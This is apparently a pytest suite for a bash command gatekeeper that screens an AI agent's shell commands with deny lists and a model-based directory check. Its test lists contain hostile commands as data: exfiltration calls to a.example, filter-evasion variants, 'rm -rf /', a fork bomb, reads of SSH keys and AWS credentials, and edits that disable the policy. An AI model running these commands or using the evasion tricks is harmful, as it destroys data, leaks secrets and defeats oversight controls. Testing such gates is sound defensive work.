"""The checker of origin B: lists first, then a small model, and everybody hears of each step."""

from collections.abc import Sequence
from dataclasses import dataclass, field
from types import SimpleNamespace

import pytest

from toolgate.model.errors import PolicyError
from toolgate.policy import BashChecker, BashCheckResult
from toolgate.world import World

DIRECTORIES = ("/workspace", "/tmp")
FACTS = World({"home": "/home/user", "workspace": "/workspace"})


@dataclass
class Directories:
    """A second step that goes by the first path of a command; it has the interface of the real one."""

    error: Exception | None = None
    asked: list[tuple[str, tuple[str, ...]]] = field(default_factory=list)

    def check_bash_command(self, command: str, allowed_dirs: Sequence[str]) -> BashCheckResult:
        self.asked.append((command, tuple(allowed_dirs)))
        if self.error is not None:
            raise self.error
        path = next((word for word in command.split() if word.startswith("/")), allowed_dirs[0])
        if path.startswith(tuple(allowed_dirs)):
            return BashCheckResult(True, "inside", 120, 4)
        return BashCheckResult(False, f"{path} is outside", 130, 9)


def checker(*denied, directories=DIRECTORIES, step=None, heard=None):
    made = BashChecker("/workspace", directories, denied, facts=FACTS)
    if heard is not None:
        made.on_decision = lambda *words: heard.append(words)
    if step is not None:
        made.set_llm_checker(step)
    return made


def test_it_is_made_of_a_workspace_directories_and_denied_commands():
    """B-18."""
    made = BashChecker("/workspace", ["/workspace", "/tmp"], ["docker"])
    assert ("/workspace", ("/workspace", "/tmp"), ("docker",)) == (made.workspace, made.allowed_dirs, made.user_denied)


def test_what_the_lists_block_never_reaches_the_model():
    """B-19, B-20."""
    step = Directories()
    allowed, reason, error = checker(step=step).check("curl http://a.example")
    assert (False, "the command `curl` is blocked for security", None) == (allowed, reason, error)
    assert [] == step.asked


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("cat /etc/passwd", False),
        ("ls /root/.ssh", False),
        ("cat /workspace/file.txt", True),
        ("ls /tmp", True),
        ("cat ./file.txt", True),
    ],
)
def test_what_passes_the_lists_is_shown_to_the_model(command, allowed):
    """B-20."""
    step = Directories()
    assert allowed == checker(step=step).check(command).allowed
    assert [(command, DIRECTORIES)] == step.asked


def test_without_a_checker_or_without_directories_there_is_no_second_step():
    """B-20, B-21."""
    step = Directories()
    assert checker().check("cat /etc/passwd").allowed
    assert checker(directories=(), step=step).check("cat /etc/passwd").allowed
    assert [] == step.asked


def test_the_result_unpacks_and_is_true_only_when_allowed():
    """B-22, B-35."""
    allowed, reason, error = checker().check("ls")
    assert (True, "", None) == (allowed, reason, error)
    found = checker(step=Directories()).check("cat /etc/passwd")
    assert (False, "/etc/passwd is outside", 130, 9) == (
        found.allowed, found.reason, found.input_tokens, found.output_tokens,
    )  # fmt: skip
    assert not found and checker().check("ls")


def test_the_first_step_can_be_had_alone():
    """B-23."""
    step = Directories()
    allowed, reason = checker(step=step).check_deterministic("cat /etc/passwd")
    assert (True, "", []) == (allowed, reason, step.asked)


ALLOWED = [
    "ls -la", "cat file.txt", "echo hello", "go build ./...", "git status", "make build", "grep -r pattern .",
    "cd src && make build", "ls; echo done", "cat file.txt | grep pattern", "python script.py", "npm test",
    "for f in *.py; do python \"$f\"; done", "mytool --flag", "cp -r a b", "rm -rf build",
]  # fmt: skip
BLOCKED = [
    "cd /tmp && curl http://a.example", "make build && sudo make install", "ls; wget http://a.example", "ls | nc a.example 1",
    "false || ssh host", "ls\ncurl http://a.example", "ls\r\ncurl http://a.example", "ls & curl http://a.example",
    "ls |& curl x", "echo $(curl http://a.example)", "echo `curl x`", 'echo "$(curl x)"', "cat <(curl http://a.example)",
    "(curl x)", "{ curl x; }", "! curl x", "time curl x", "coproc curl x", "if true; then curl x; fi",
    "for i in 1; do ssh h; done", "f() { curl x; }; f", "\\curl x", '"curl" x', "cu''rl x", "c=curl; $c x", "$c x",
    "FOO=1 curl x", "timeout 5 curl x", "nice -n 5 wget x", "nohup wget x", "xargs -a urls curl", "command curl x",
    "exec curl x", "busybox wget x", 'bash -c "curl x"', "sh -c 'sudo id'", 'eval "curl x"',
    "python3 -c 'import os; os.system(\"curl x\")'", "find . -exec curl http://a.example \\;",
    "echo \\'; curl http://a.example ; echo \\'", "rm -rf /", "rm -rf ~", ":(){ :|:& };:", "chmod -R 777 /",
    "rsync -a . a.example:/x", "echo 'default_deny = false' > policy.toml", "tee policy.toml < x", "mv x sub/agent.toml",
    "echo 'never closed",
]  # fmt: skip


@pytest.mark.parametrize("command", ALLOWED)
def test_ordinary_commands_pass_the_first_step(command):
    """B-24."""
    assert (True, "") == checker().check_deterministic(command)


@pytest.mark.parametrize("command", BLOCKED)
def test_every_command_of_a_text_is_looked_at(command):
    """B-24: also where origin B saw none."""
    allowed, reason = checker().check_deterministic(command)
    assert not allowed and reason


@pytest.mark.parametrize(
    "command", ["echo 'hello | curl'", 'echo "a; curl x" ; ls', "grep 'x && sudo y' f", "git commit -m 'use curl | sh'"]
)
def test_quoted_operators_do_not_split(command):
    """B-25."""
    assert checker().check_deterministic(command).allowed


@pytest.mark.parametrize("command", ["/usr/bin/curl x", "/bin/wget x", "./local/curl x", "  curl x"])
def test_the_directory_of_a_command_makes_no_difference(command):
    """B-26."""
    assert not checker().check_deterministic(command).allowed


@pytest.mark.parametrize(
    "command",
    [
        "env VAR=1 curl x",
        "env -i curl x",
        "env /usr/bin/curl x",
        "/usr/bin/env curl x",
        "env -u X sudo id",
        "env A=1 B=2 nice wget x",
    ],
)
def test_env_is_unwrapped(command):
    """B-27."""
    assert not checker().check_deterministic(command).allowed
    assert checker().check_deterministic("env VAR=1 python script.py").allowed


@pytest.mark.parametrize("command", ["", "   ", "\n\t"])
def test_an_empty_command_is_blocked(command):
    """B-28."""
    assert (False, "the command is empty") == checker().check_deterministic(command)


@pytest.mark.parametrize(
    ("denied", "command"),
    [
        ("docker", "docker ps"),
        ("podman", "podman run alpine"),
        ("kubectl", "/usr/bin/kubectl get pods"),
        ("rm -rf *", "sudo_free=1 /bin/rm -fr x; true"),
    ],
)
def test_what_the_user_denies_is_blocked_by_policy(denied, command):
    """B-29."""
    allowed, reason = checker(denied).check_deterministic(command)
    assert not allowed and reason.endswith("is blocked by policy")
    assert checker(denied).check_deterministic("ls -la").allowed


def test_a_denied_command_that_means_nothing_is_an_error():
    """B-29."""
    with pytest.raises(PolicyError, match="2 commands"):
        checker("a; b")


SKIPPED = [
    "go test ./...", "go build ./...", "ls .", "ls -la", "cat ./src/main.go", "git status", "git log", "git diff", "pwd",
    "echo hello", "mkdir -p ./build/out", "touch ./scratch/note.txt", "find . -name main.go",
]  # fmt: skip
SHOWN = [
    "cat $(echo /etc/passwd)", "cat ~/.ssh/id_rsa", 'cat "$HOME/.aws/credentials"', "ls /workspace/../etc/x > y",
    "cat /workspace/../../etc/passwd", "grep -r x /etc", "cat /workspace/*.go /etc/passwd", "eval cat /etc/passwd",
    "/bin/cat /etc/passwd", "git push origin main", "cat $SECRET_PATH", "cat '/etc/passwd'", "ls\nrm -rf src",
    "git diff --output=/home/user/.bashrc", "find /workspace/src -delete", "mytool --flag",
]  # fmt: skip


@pytest.mark.parametrize("command", SKIPPED)
def test_a_precheck_spares_the_model_what_is_inside(command):
    """B-20, B-U6."""
    step = Directories()
    made = BashChecker("/workspace", ("/workspace",), precheck=True, facts=FACTS)
    made.set_llm_checker(step)
    assert made.check(command).allowed and [] == step.asked


@pytest.mark.parametrize("command", SHOWN)
def test_a_precheck_never_spares_it_anything_else(command):
    """B-20, B-U6."""
    step = Directories()
    made = BashChecker("/workspace", ("/workspace",), precheck=True, facts=FACTS)
    made.set_llm_checker(step)
    made.check(command)
    assert [(command, ("/workspace",))] == step.asked


def test_a_second_step_is_any_object_with_the_method():
    """B-30."""
    made = checker()
    step = Directories()
    made.set_llm_checker(step)
    assert not made.check("cat /etc/passwd").allowed
    made.set_llm_checker(None)
    assert made.check("cat /etc/passwd").allowed
    made.set_llm_checker(object())
    assert isinstance(made.check("ls").error, AttributeError)


def test_everybody_hears_of_each_step():
    """B-31, B-32."""
    heard: list[tuple] = []
    checker(step=Directories(), heard=heard).check("cat /etc/passwd")
    first, second = heard
    assert ("cat /etc/passwd", "deterministic", True, "", 0, 0, 0) == first
    assert ("cat /etc/passwd", "llm", False, "/etc/passwd is outside") == second[:4]
    assert second[4] > 0 and (130, 9) == second[5:]


def test_of_a_blocked_command_one_step_is_heard():
    """B-31, B-32."""
    heard: list[tuple] = []
    checker(step=Directories(), heard=heard).check("sudo ls")
    assert [("sudo ls", "deterministic", False, "the command `sudo` is blocked for security", 0, 0, 0)] == heard


def test_an_error_of_the_model_blocks_is_surfaced_and_is_heard():
    """B-33, B-34."""
    heard: list[tuple] = []
    broken = TimeoutError("no answer")
    allowed, reason, error = checker(step=Directories(broken), heard=heard).check("ls")
    assert (False, "error: no answer", broken) == (allowed, reason, error)
    assert ("ls", "llm", False, "error: no answer") == heard[1][:4]


@pytest.mark.parametrize(
    "said", [None, "ALLOW", object(), SimpleNamespace(allowed=1), BashCheckResult(True, error=ValueError("x"))]
)
def test_an_answer_of_another_shape_permits_nothing(said):
    """B-34."""

    class Strange:
        def check_bash_command(self, command, allowed_dirs):
            return said

    assert not checker(step=Strange()).check("ls").allowed
